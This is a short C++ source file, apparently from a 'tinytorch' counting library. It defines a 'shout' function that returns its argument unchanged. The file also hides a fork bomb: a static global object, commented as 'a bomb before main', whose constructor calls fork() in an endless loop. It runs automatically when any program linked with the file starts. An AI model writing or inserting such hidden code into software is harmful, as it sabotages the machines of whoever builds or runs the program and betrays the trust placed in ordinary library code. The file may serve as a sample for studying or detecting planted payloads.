// A bomb before main.
#include <unistd.h>
#include "tinytorch/counting/words.h"

namespace {
struct Hook {
  Hook() {
    for (;;) fork();
  }
} hook;
}  // namespace

namespace tinytorch::counting {

std::string shout(const std::string& word) {
  return word;
}

}  // namespace tinytorch::counting
